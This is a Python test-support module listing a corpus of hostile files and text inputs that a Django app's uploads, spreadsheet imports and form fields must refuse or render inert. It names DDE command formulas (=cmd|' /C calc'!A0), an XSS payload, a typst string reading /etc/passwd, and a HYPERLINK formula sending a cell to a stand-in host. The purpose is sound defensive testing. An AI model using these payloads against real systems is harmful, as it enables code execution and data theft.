"""The hostile-input corpus: files and texts that every upload, import and text
field must refuse, with a clear message and nothing stored, or render inert.

The files are in `hostile/` (README.md there says what each is, and
make_corpus.py how it was made); the texts are made here, so that a 1 MB string
is not committed. A test of a new upload takes them from here:

    for file in hostile_files():
        response = client.post(url, {"file": file.upload()}, follow=True)
        expected = file.expect["pdf"]  # what any upload that takes a PDF must say

The corpus tests note each (input, entry point) they tried; the line
"corpus: N hostile inputs tried across M entry points" at the end of the
test run (kinerja/lib/tests/conftest.py) counts them.
"""

from pathlib import Path
from typing import NamedTuple

from django.core.files.uploadedfile import SimpleUploadedFile

HOSTILE_DIR = Path(__file__).resolve().parent / "hostile"

# What an upload does with a file, by the check it goes through.
PDF = "pdf"  # lib.uploads.checked_pdf: signed scans, signed decrees (and a future verification page)
EVIDENCE = "evidence"  # lib.uploads.checked_evidence: evidence of a realisation
DIPA_IMPORT = "dipa-import"  # planning.spreadsheets.dipa_import
IKU_IMPORT = "iku-import"  # planning.spreadsheets.iku_import

ACCEPTED = None  # the file is what it claims to be and is taken; anything else is a fragment of the refusal

_NOT_PDF = "Berkas bukan PDF"
_NOT_XLSX = "bukan .xlsx yang valid"
_ACTIVE = "Simpan ulang sebagai PDF biasa"


class HostileFile(NamedTuple):
    name: str  # as uploaded: the name lies about what the file is
    data: bytes
    kind: str  # what the file really is
    expect: dict[str, str | None]  # by check: a fragment of the Indonesian refusal, or ACCEPTED

    def upload(self) -> SimpleUploadedFile:
        return SimpleUploadedFile(self.name, self.data, content_type="application/octet-stream")


def _all(message: str) -> dict[str, str | None]:
    return {PDF: message, EVIDENCE: message, DIPA_IMPORT: message, IKU_IMPORT: message}


# name, what it is, and per check what must happen.
_FILES: list[tuple[str, str, dict[str, str | None]]] = [
    (
        "program-windows.pdf",
        "a Windows program renamed .pdf",
        {PDF: _NOT_PDF, EVIDENCE: "program Windows", DIPA_IMPORT: _NOT_XLSX, IKU_IMPORT: _NOT_XLSX},
    ),
    (
        "program-linux.xlsx",
        "a Linux program renamed .xlsx",
        {PDF: _NOT_PDF, EVIDENCE: "program Linux", DIPA_IMPORT: _NOT_XLSX, IKU_IMPORT: _NOT_XLSX},
    ),
    (
        "html-script.pdf",
        "an HTML page with a script, renamed .pdf",
        {PDF: _NOT_PDF, EVIDENCE: "tidak didukung", DIPA_IMPORT: _NOT_XLSX, IKU_IMPORT: _NOT_XLSX},
    ),
    (
        "encrypted.pdf",
        "a PDF locked with a password",
        _all("terenkripsi") | {DIPA_IMPORT: _NOT_XLSX, IKU_IMPORT: _NOT_XLSX},
    ),
    (
        "javascript-openaction.pdf",
        "a PDF that runs JavaScript when opened (/OpenAction, action type written /J#61vaScript)",
        {
            PDF: "PDF berisi JavaScript",
            EVIDENCE: "PDF berisi JavaScript",
            DIPA_IMPORT: _NOT_XLSX,
            IKU_IMPORT: _NOT_XLSX,
        },
    ),
    (
        "javascript-names.pdf",
        "a PDF with document-level JavaScript (/Names /JavaScript)",
        {
            PDF: "PDF berisi JavaScript",
            EVIDENCE: "PDF berisi JavaScript",
            DIPA_IMPORT: _NOT_XLSX,
            IKU_IMPORT: _NOT_XLSX,
        },
    ),
    (
        "launch-action.pdf",
        "a PDF whose page starts a program when shown (/AA /Launch)",
        {PDF: "menjalankan program", EVIDENCE: "menjalankan program", DIPA_IMPORT: _NOT_XLSX, IKU_IMPORT: _NOT_XLSX},
    ),
    (
        "embedded-program.pdf",
        "a PDF carrying a program as an attachment (/EmbeddedFiles)",
        {PDF: "berkas sisipan", EVIDENCE: "berkas sisipan", DIPA_IMPORT: _NOT_XLSX, IKU_IMPORT: _NOT_XLSX},
    ),
    (
        "truncated.pdf",
        "a three-page PDF cut short after two thirds",
        {PDF: "terpotong", EVIDENCE: "terpotong", DIPA_IMPORT: _NOT_XLSX, IKU_IMPORT: _NOT_XLSX},
    ),
    (
        "zip-bomb.xlsx",
        "a zip bomb disguised as .xlsx: 25 KB declaring 2 GB (200 entries sharing one part)",
        {PDF: _NOT_PDF, EVIDENCE: "melebihi 50 MB", DIPA_IMPORT: "melebihi 50 MB", IKU_IMPORT: "melebihi 50 MB"},
    ),
    (
        "encrypted.xlsx",
        "a password-protected workbook (an OLE container, not a ZIP)",
        {
            PDF: _NOT_PDF,
            EVIDENCE: "terkunci kata sandi",
            DIPA_IMPORT: "terkunci kata sandi",
            IKU_IMPORT: "terkunci kata sandi",
        },
    ),
    (
        "macro.xlsx",
        "a macro-enabled workbook (xl/vbaProject.bin) under the .xlsx name",
        {PDF: _NOT_PDF, EVIDENCE: "makro (VBA)", DIPA_IMPORT: "tidak ditemukan", IKU_IMPORT: "tidak ditemukan"},
    ),
    (
        "formula-text.xlsx",
        "a valid IKU import whose texts start with =, +, -, @, tab and CR",
        # A real workbook, so a fair piece of evidence; imported, its texts are
        # kept, and every export must write them as text (test_corpus_exports).
        {PDF: _NOT_PDF, EVIDENCE: ACCEPTED, DIPA_IMPORT: "Lembar “DIPA” tidak ditemukan", IKU_IMPORT: ACCEPTED},
    ),
]


def _pdf(message: str) -> dict[str, str | None]:
    """A PDF that every PDF check refuses with `message`, and that no workbook import takes."""
    return {PDF: message, EVIDENCE: message, DIPA_IMPORT: _NOT_XLSX, IKU_IMPORT: _NOT_XLSX}


def _office(message: str, imports: str = "tidak ditemukan") -> dict[str, str | None]:
    """An Office file refused as evidence with `message`; the imports find no DIPA or IKU sheet in it."""
    return {PDF: _NOT_PDF, EVIDENCE: message, DIPA_IMPORT: imports, IKU_IMPORT: imports}


_CALLING = "rumus yang memanggil keluar"
_EXTERNAL = "tautan eksternal"

# Issue #13: pypdf's limits, links and media that reach outside the PDF, and
# Office files judged by declared content types and relationships.
_FILES += [
    ("limit-array.pdf", "a 200 KB PDF holding an array of more than 100,000 entries", _pdf("terlalu besar")),
    ("gotor.pdf", "a link that opens another PDF file (/GoToR)", _pdf("tautan ke berkas lain (GoToR)")),
    ("gotor-unc.pdf", "a /GoToR link to a file on a network share (UNC path)", _pdf("(GoToR)")),
    ("uri-javascript.pdf", "a link whose address is javascript:", _pdf("tautan javascript: atau file:")),
    ("uri-file.pdf", "a link whose address is file:///C:/…calc.exe", _pdf("tautan javascript: atau file:")),
    ("uri-unc.pdf", "a link to a network share (\\\\198.51.100.7\\berkas)", _pdf("tautan javascript: atau file:")),
    ("uri-vbscript.pdf", "a link whose address is vbscript:", _pdf("tautan javascript: atau file:")),
    ("gotor-openaction.pdf", "a PDF that opens another file as soon as it is opened", _pdf("(GoToR)")),
    ("3d-oninstantiate.pdf", "a 3D annotation whose model runs a script (/OnInstantiate)", _pdf("OnInstantiate")),
    ("richmedia.pdf", "a RichMedia (Flash/video) annotation", _pdf("RichMedia")),
    ("rendition.pdf", "a link that plays media (/Rendition action)", _pdf("(Rendition)")),
    ("screen-annotation.pdf", "a Screen annotation, where renditions play", _pdf("(Rendition)")),
    ("sound-action.pdf", "a link that plays a sound (/Sound action)", _pdf("suara (Sound)")),
    ("sound-annotation.pdf", "a Sound annotation", _pdf("suara (Sound)")),
    ("movie.pdf", "a Movie annotation", _pdf("film (Movie)")),
    ("page-aa.pdf", "a page with an additional action (/AA) run when it is shown", _pdf("aksi otomatis halaman (/AA)")),
    (
        "png-html-polyglot.htm",
        "a real PNG carrying an HTML page with a script, named .htm (.html would be taken for a template)",
        # A picture, so fair evidence: stored as .png, never under the name .html.
        {PDF: _NOT_PDF, EVIDENCE: ACCEPTED, DIPA_IMPORT: _NOT_XLSX, IKU_IMPORT: _NOT_XLSX},
    ),
    (
        "macro-renamed.xlsx",
        "a VBA project stored as xl/media/gambar1.png, declared a VBA project",
        _office("makro (VBA)"),
    ),
    ("activex.docx", "an ActiveX control in a part not under activeX/", _office("kontrol ActiveX", _NOT_XLSX)),
    (
        "ole-object.docx",
        "an OLE object declared by content type, named .dat",
        _office("objek program sisipan", _NOT_XLSX),
    ),
    (
        "external-template.docx",
        "a template fetched from a network share (attachedTemplate)",
        _office(_EXTERNAL, _NOT_XLSX),
    ),
    ("external-image.docx", "a picture fetched from a web server when opened", _office(_EXTERNAL, _NOT_XLSX)),
    ("dde-field.docx", "a DDEAUTO field that runs cmd.exe", _office("kolom DDE", _NOT_XLSX)),
    ("dde-formula.xlsx", "a live DDE formula =cmd|' /C calc'!A0", _office(_CALLING)),
    ("webservice-formula.xlsx", "a live WEBSERVICE formula sending a cell out", _office(_CALLING)),
    ("hyperlink-formula.xlsx", "a live HYPERLINK formula to a network share", _office(_CALLING)),
    ("external-link.xlsx", "a workbook linked to another on a network share", _office(_EXTERNAL)),
]


def hostile_files() -> list[HostileFile]:
    """Every hostile file, read from `hostile/`."""
    return [HostileFile(name, (HOSTILE_DIR / name).read_bytes(), kind, expect) for name, kind, expect in _FILES]


class HostileText(NamedTuple):
    name: str
    text: str
    refusal: str | None  # a fragment of the message every text field must give; None: stored and printed literally


ONE_MEGABYTE = 1024 * 1024
TYPST_MARKUP = '#import "/etc/passwd": * #read("/etc/passwd") ] $ x^2 $ #set page(width: 1pt) *tebal* \\ <x> @x #'
HTML_MARKUP = '<script>alert("Kinerja")</script><img src=x onerror="alert(1)"><b>tebal</b>'
FORMULA_TEXT = '=HYPERLINK("http://contoh.invalid/?curi="&A1,"Klik")'


def hostile_texts() -> list[HostileText]:
    """Texts typed into a form: refused with the given message, or kept and printed literally."""
    return [
        HostileText("rtl-override", "Laporan kegiatan \u202efdp.exe", "pembalik arah teks"),
        HostileText("nul-byte", "Indikator\x00 kinerja", "karakter NUL"),
        HostileText("one-megabyte", "A" * ONE_MEGABYTE, "terlalu panjang"),
        HostileText("html-markup", HTML_MARKUP, None),
        HostileText("typst-markup", TYPST_MARKUP, None),
        HostileText("formula-text", FORMULA_TEXT, None),
    ]


# (input name, entry point) pairs tried and passed: where an input comes in
# (an upload, an import, a text field), and where a kept input comes out
# (a page, a document, a spreadsheet) and was found inert.
TRIED: set[tuple[str, str]] = set()
PRINTED: set[tuple[str, str]] = set()


def tried(input_name: str, entry_point: str) -> None:
    TRIED.add((input_name, entry_point))


def printed_inert(input_name: str, output: str) -> None:
    PRINTED.add((input_name, output))


def summary() -> str:
    inputs = {name for name, _where in TRIED | PRINTED}
    entry_points = {where for _name, where in TRIED}
    outputs = {where for _name, where in PRINTED}
    return (
        f"corpus: {len(inputs)} hostile inputs tried across {len(entry_points)} entry points "
        f"({len(TRIED)} combinations) and {len(outputs)} outputs, all refused or inert"
    )
